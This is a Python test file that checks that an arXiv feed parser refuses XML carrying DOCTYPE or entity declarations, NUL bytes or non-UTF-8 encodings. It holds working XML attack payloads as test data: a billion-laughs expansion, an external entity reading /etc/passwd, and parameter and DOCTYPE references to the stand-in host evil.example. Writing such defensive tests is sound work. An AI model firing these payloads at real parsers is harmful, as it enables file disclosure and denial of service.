"""arXiv answers are parsed only when they are plain UTF-8 Atom: no DOCTYPE, no entity declaration, in any encoding."""

from __future__ import annotations

import pytest

from lvlmkb.kb.contribute.arxiv_api import ArxivLookupError, parse_feed
from tests.conftest import DATA

OK = (DATA / "arxiv" / "ok.xml").read_text(encoding="utf-8")
ARXIV_ID = "2501.91234"
HEADER = '<?xml version="1.0" encoding="{encoding}"?>\n'
ENTITIES = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
LAUGHS = f'<!DOCTYPE feed [<!ENTITY lol0 "lol">{ENTITIES}]>\n'
EXTERNAL = '<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
PARAMETER = '<!DOCTYPE feed [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>\n'


def _feed(declaration: str, title: str, encoding: str = "UTF-8") -> str:
    body = OK.split("\n", 1)[1]
    start, end = body.index("<title>Shadow"), body.index("</title>", body.index("<title>Shadow"))
    return HEADER.format(encoding=encoding) + declaration + body[:start] + f"<title>{title}" + body[end:]


def test_the_plain_feed_parses() -> None:
    assert parse_feed(OK.encode("utf-8"), ARXIV_ID).title.startswith("Shadow Letters")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("billion laughs", _feed(LAUGHS, "&lol9;")),
        ("external entity", _feed(EXTERNAL, "&xxe;")),
        ("parameter entity", _feed(PARAMETER, "t")),
        ("bare doctype", _feed('<!DOCTYPE feed SYSTEM "https://evil.example/feed.dtd">\n', "t")),
        ("lower case", _feed(LAUGHS.replace("DOCTYPE", "doctype").replace("ENTITY", "entity"), "t")),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_declarations_are_refused_in_every_encoding(name: str, text: str, encoding: str) -> None:
    declared = text.replace('encoding="UTF-8"', f'encoding="{encoding.upper()}"')
    with pytest.raises(ArxivLookupError, match="not a plain Atom feed"):
        parse_feed(declared.encode(encoding), ARXIV_ID)


def test_a_nul_byte_is_refused() -> None:
    with pytest.raises(ArxivLookupError, match="not a plain Atom feed"):
        parse_feed(OK.replace("Shadow", "Sha\0dow").encode("utf-8"), ARXIV_ID)


def test_a_utf16_feed_without_declarations_is_refused_too() -> None:
    """arXiv answers UTF-8; anything else is not what lvlmkb asked for, whatever it holds."""
    with pytest.raises(ArxivLookupError):
        parse_feed(OK.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"), ARXIV_ID)
